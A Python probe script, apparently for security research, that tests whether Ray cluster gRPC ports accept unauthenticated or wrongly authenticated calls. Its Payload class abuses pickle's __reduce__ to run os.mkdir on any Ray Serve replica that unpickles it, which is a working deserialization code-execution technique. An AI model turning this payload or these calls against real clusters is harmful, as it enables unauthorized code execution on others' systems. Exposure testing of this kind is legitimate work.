"""Somebody without a token: what does each port of a study let them do?

python stranger.py HOST FOLDER PORT…      prints {port: how it answered}

Sends what Ray Serve's replicas unpickle (whoever does so makes FOLDER/PORT), and calls what runs code on Ray's
own processes; with no token, and with a wrong one.
"""

import json
import os
import pickle
import socket
import sys
from pathlib import Path
from typing import Any

PATIENCE_S = 30.0
REPLICA = "/ray.serve.ASGIService/HandleRequest"
CALLS = (
    REPLICA,
    "/ray.rpc.NodeInfoGcsService/CheckAlive",
    "/ray.rpc.NodeManagerService/RequestWorkerLease",
    "/ray.rpc.ObjectManagerService/Push",
    "/ray.rpc.CoreWorkerService/PushTask",
    "/ray.rpc.ReporterService/GetTraceback",
)


class Payload:
    """Makes a folder where it is unpickled."""

    def __init__(self, path: Path) -> None:
        self.path = str(path)

    def __reduce__(self) -> tuple[Any, ...]:
        return os.mkdir, (self.path,)


def call(channel: Any, name: str, message: bytes, token: str | None) -> str:
    """The status of a call, by its name in gRPC."""
    import grpc

    metadata = [("authorization", f"Bearer {token}")] if token else []
    try:
        channel.unary_unary(name)(message, metadata=metadata, timeout=PATIENCE_S)
    except grpc.RpcError as error:
        return str(error.code().name)
    return "OK"


def answers(host: str, port: int, folder: Path) -> list[str]:
    """How a port answers: `refused`, or all statuses of calls."""
    try:
        socket.create_connection((host, port), PATIENCE_S).close()
    except ConnectionRefusedError:
        return ["refused"]
    import grpc
    from ray.serve.generated.serve_pb2 import ASGIRequest

    pickled = pickle.dumps(Payload(folder / str(port)))
    messages = {REPLICA: ASGIRequest(pickled_request_metadata=pickled).SerializeToString()}
    found = set()
    with grpc.insecure_channel(f"{host}:{port}") as channel:
        for token in (None, "0" * 64):
            found |= {call(channel, name, messages.get(name, b""), token) for name in CALLS}
    return sorted(found)


def main() -> None:
    """Tries every port."""
    host, folder = sys.argv[1], Path(sys.argv[2])
    found = {port: answers(host, int(port), folder) for port in sys.argv[3:]}
    sys.stdout.write(json.dumps(found))


if __name__ == "__main__":
    main()
